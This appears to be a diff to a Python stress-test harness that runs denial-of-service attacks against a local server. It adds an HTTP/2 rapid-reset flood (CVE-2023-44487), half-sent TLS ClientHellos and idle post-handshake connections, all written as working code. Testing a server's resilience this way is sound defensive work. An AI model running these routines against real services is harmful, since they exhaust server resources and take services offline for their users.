@@ -8,6 +8,9 @@ import ssl
 import time
 import typing
 
+from h2.config import H2Configuration
+from h2.connection import H2Connection
+
 from support.places import API
 
 ONE_ADDRESS = "127.0.0.5"
@@ -27,8 +30,9 @@ def connect(port, source, receive_buffer=None):
     return tcp
 
 
-def tls(tcp):
+def tls(tcp, protocol="http/1.1"):
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.set_alpn_protocols([protocol])
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
     return context.wrap_socket(tcp, server_hostname=API)
@@ -59,7 +63,7 @@ def begin_head(port):
 
 def begin_body(port):
     client = tls(connect(port, many_addresses()))
-    client.sendall(f"POST / HTTP/1.1\r\nHost: {API}\r\nContent-Length: 1000000\r\n\r\n".encode())
+    client.sendall(f"POST /big HTTP/1.1\r\nHost: {API}\r\nContent-Length: 1000000\r\n\r\n".encode())
     return client
 
 
@@ -90,6 +94,48 @@ def slow_bodies(port, stop):
 
 def slow_reads(port, stop):
     keep_open(port, stop, 100, begin_read, read_an_octet)
+
+
+def stay_idle(port, stop):
+    """Full handshakes, and then nothing: each takes a place."""
+    keep_open(port, stop, 400, lambda to: tls(connect(to, many_addresses())), look_for_the_end)
+
+
+def begin_hello(port):
+    """The first octets of a TLS record that holds a ClientHello (RFC 8446 section 5.1)."""
+    client = connect(port, many_addresses())
+    client.sendall(bytes.fromhex("16030102000100"))
+    return client
+
+
+def half_hellos(port, stop):
+    keep_open(port, stop, 1000, begin_hello, look_for_the_end)
+
+
+def look_for_the_end(client):
+    client.setblocking(False)
+    try:
+        if client.recv(1) == b"":
+            raise OSError
+    except (BlockingIOError, ssl.SSLWantReadError):
+        pass
+
+
+def reset_rapidly(port, stop):
+    """HTTP/2 requests that are taken back at once (CVE-2023-44487)."""
+    while not stop.is_set():
+        with contextlib.suppress(OSError):
+            client = tls(connect(port, many_addresses()), "h2")
+            h2 = H2Connection(H2Configuration(client_side=True))
+            h2.initiate_connection()
+            while not stop.is_set():
+                for _ in range(50):
+                    number = h2.get_next_available_stream_id()
+                    h2.send_headers(number, [(":method", "GET"), (":scheme", "https"),
+                                             (":authority", API), (":path", "/big")],
+                                    end_stream=True)
+                    h2.reset_stream(number)
+                client.sendall(h2.data_to_send())
 
 
 def shake_hands(source_of):
@@ -128,6 +174,9 @@ ATTACKS = [
     Attack("slow reads", slow_reads),
     Attack("handshakes of one address", shake_hands(lambda: ONE_ADDRESS), processes=3),
     Attack("handshakes of many addresses", shake_hands(many_addresses), processes=3),
+    Attack("rapid reset", reset_rapidly, processes=2),
     Attack("connections", only_connect, processes=2),
     Attack("connections, few descriptors", only_connect, processes=2, descriptors=128),
+    Attack("half hellos, few descriptors", half_hellos, processes=2, descriptors=128),
+    Attack("idle after the handshake, few descriptors", stay_idle, processes=2, descriptors=128),
 ]
